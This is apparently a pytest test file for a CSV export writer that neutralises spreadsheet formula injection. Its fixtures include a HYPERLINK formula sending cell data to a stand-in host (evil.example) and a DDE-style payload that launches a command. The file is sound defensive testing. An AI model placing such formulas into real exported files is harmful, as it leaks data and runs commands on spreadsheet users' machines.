"""core.csv: the one CSV writer of every export; no cell a spreadsheet would run."""

import csv
import io
from datetime import date
from decimal import Decimal

import pytest

from core.csv import neutralise, write_csv

HYPERLINK = '=HYPERLINK("https://evil.example/?x="&A2,"Open")'


def read(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text)))


@pytest.mark.parametrize(
    "formula",
    [
        HYPERLINK,
        "+1+cmd|' /C calc'!A0",
        "-2+3",
        "@SUM(A1:A9)",
        "\t=1+1",
        "\r=1+1",
        "  =1+1",
        "\n=1+1",
        " \t @SUM(A1)",
    ],
)
def test_text_that_could_start_a_formula_gets_a_leading_apostrophe(formula):
    assert neutralise(formula) == "'" + formula
    assert read(write_csv(["name"], [[formula]])) == [["name"], ["'" + formula]]


@pytest.mark.parametrize(
    ("value", "written"),
    [
        (42, "42"),
        (-7, "-7"),
        (Decimal("-1250.50"), "-1250.50"),
        (Decimal("700.00"), "700.00"),
        (2.5, "2.5"),
        ("-12.50", "-12.50"),  # a number that arrives as text (the admin's cells)
        ("+3", "+3"),
        (date(2027, 3, 31), "2027-03-31"),
        (None, ""),
        ("", ""),
        ("Mobility Valley", "Mobility Valley"),
        ("  indented, not a formula", "  indented, not a formula"),
        ("a = b", "a = b"),
        ("e-mail@example.org", "e-mail@example.org"),
        (True, "True"),
    ],
)
def test_numbers_dates_and_plain_text_are_written_as_they_are(value, written):
    assert read(write_csv(["cell"], [[value]]))[1] == [written]


def test_the_header_is_neutralised_too_and_rows_keep_their_shape():
    rows = read(write_csv(["=bad", "ok"], [[1, "x"], [HYPERLINK, None]]))

    assert rows == [["'=bad", "ok"], ["1", "x"], ["'" + HYPERLINK, ""]]


def test_commas_quotes_and_new_lines_survive_the_round_trip():
    text = 'Smith, "Jo"\nline two'

    assert read(write_csv(["a"], [[text]]))[1] == [text]
